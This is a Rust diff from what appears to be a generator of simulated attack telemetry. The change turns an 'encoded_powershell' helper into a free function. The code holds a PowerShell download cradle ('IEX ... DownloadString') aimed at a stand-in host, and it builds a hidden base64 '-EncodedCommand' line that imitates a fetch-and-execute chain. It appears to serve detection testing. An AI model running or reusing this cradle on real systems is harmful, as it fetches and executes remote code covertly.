@@ -104,7 +104,7 @@ impl Attack<'_> {
             84_213,
         );
         opening.starts(telemetry, &excel);
-        let powershell = self.encoded_powershell(
+        let powershell = encoded_powershell(
             "IEX (New-Object Net.WebClient).DownloadString('https://cdn-sync.example/s')",
         );
         scene(14, 40, &excel, "OUTLOOK.EXE").starts(telemetry, &powershell);
@@ -126,13 +126,6 @@ impl Attack<'_> {
             scene(16 + beat * 5, beat % 7, &implant, "powershell.exe")
                 .connects(telemetry, host, ip, 443);
         }
-    }
-
-    fn encoded_powershell(&self, script: &str) -> Process {
-        let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
-        let encoded = STANDARD.encode(utf16);
-        let line = format!("powershell.exe -NoP -W Hidden -EncodedCommand {encoded}");
-        Process::new("powershell.exe", POWERSHELL, "Microsoft Corporation", line)
     }
 
     fn persist(&self, telemetry: &mut Telemetry) {
@@ -381,6 +374,13 @@ impl Attack<'_> {
             scene.starts(telemetry, &Process::system(file, line));
         }
     }
+}
+
+fn encoded_powershell(script: &str) -> Process {
+    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let encoded = STANDARD.encode(utf16);
+    let line = format!("powershell.exe -NoP -W Hidden -EncodedCommand {encoded}");
+    Process::new("powershell.exe", POWERSHELL, "Microsoft Corporation", line)
 }
 
 fn implant() -> Process {
